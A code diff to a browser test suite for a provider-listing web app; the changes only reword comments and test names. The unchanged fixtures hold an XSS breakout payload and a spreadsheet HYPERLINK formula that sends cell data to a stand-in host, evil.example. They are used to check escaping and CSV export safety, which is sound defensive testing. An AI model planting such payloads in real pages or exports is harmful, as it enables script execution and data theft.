@@ -6,9 +6,9 @@ import { launchBrowser, openPage } from '../support/browser';
 import { type Site, startSite } from '../support/site';
 import { answer, call, openedRun, provider } from '../support/store-fixtures';
 
-/** What breaks out of text, of an attribute, of a script and of a comment, where it is not escaped. */
+/** Text that breaks out of text, attributes, scripts and comments if it is not escaped. */
 const HOSTILE = `<img src=x onerror=alert(1)>"'></td></title></noscript><script>alert(2)</script><!--`;
-/** One word that is far wider than a telephone. */
+/** One word that is much wider than a phone. */
 const LONG = 'Wolfeschlegelsteinhausenbergerdorff'.repeat(5);
 const FORMULA = `=HYPERLINK("http://evil.example/?"&A1,"${HOSTILE}")`;
 
@@ -79,7 +79,7 @@ const pages: [name: string, path: () => string, texts: number][] = [
   ['the overview', () => '/', 2],
   ['providers', () => '/providers', 2],
   ['a search', () => `/providers?search=${encoded}&clinic=${encoded}&title=${encoded}`, 2],
-  ['a search that finds nobody', () => `/providers?search=nobody${encoded}`, 1],
+  ['a search without a match', () => `/providers?search=unknown${encoded}`, 1],
   ['a provider', () => `/providers/${providerId}`, 6],
   ['runs', () => '/runs', 0],
   ['a run with newcomers', () => `/runs/${runs.first}`, 4],
@@ -88,9 +88,9 @@ const pages: [name: string, path: () => string, texts: number][] = [
   ['a run under its workflow ID', () => `/runs/${encoded}`, 3],
   ['rejected records', () => '/rejected-records', 2],
   ['partners', () => '/partners', 1],
-  ['a page that is not there', () => `/${encoded}`, 0],
-  ['a provider that is not there', () => `/providers/${encoded}`, 0],
-  ['a filter that is none', () => `/runs?status=${encoded}`, 0],
+  ['a missing page', () => `/${encoded}`, 0],
+  ['a missing provider', () => `/providers/${encoded}`, 0],
+  ['an invalid filter', () => `/runs?status=${encoded}`, 0],
 ];
 
 it.each(pages)('shows hostile text as text on %s', async (_name, path, texts) => {
@@ -103,12 +103,12 @@ it.each(pages)('shows hostile text as text on %s', async (_name, path, texts) =>
   expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(360);
 });
 
-it('shows hostile text as text where a page is replaced in part', async () => {
+it('shows hostile text as text after a partial update', async () => {
   await page.goto(`${site.url}/providers`);
   await page.getByLabel('Name').fill('img');
   await page.getByText('found').waitFor();
-  await page.getByLabel('Name').fill(`nobody ${HOSTILE}`);
-  await page.getByText('Nobody is found for').waitFor();
+  await page.getByLabel('Name').fill(`unknown ${HOSTILE}`);
+  await page.getByText('No providers match').waitFor();
   await page.goto(site.url);
   await site.system.sync();
   await page.locator('.strip li').nth(3).waitFor();
@@ -118,7 +118,7 @@ it('shows hostile text as text where a page is replaced in part', async () => {
 describe('an export', () => {
   const lists = ['providers', 'syncs', 'rejected-records'];
 
-  it.each(lists)('of %s as CSV gives a spreadsheet no formula', async (list) => {
+  it.each(lists)('of %s as CSV contains no formula', async (list) => {
     const response = await fetch(`${site.url}/api/v1/${list}?format=csv`);
     const text = await response.text();
     expect(response.headers.get('Content-Type')).toBe('text/csv; charset=utf-8');
@@ -128,7 +128,7 @@ describe('an export', () => {
     expect(text).not.toMatch(/(^|,|\n)"?[=+@\-\t]/);
   });
 
-  it.each(lists)('of %s as NDJSON holds it as it came', async (list) => {
+  it.each(lists)('of %s as NDJSON contains the text unchanged', async (list) => {
     const response = await fetch(`${site.url}/api/v1/${list}?format=ndjson`);
     const lines = (await response.text()).trim().split('\n');
     expect(response.headers.get('Content-Type')).toContain('application/x-ndjson');
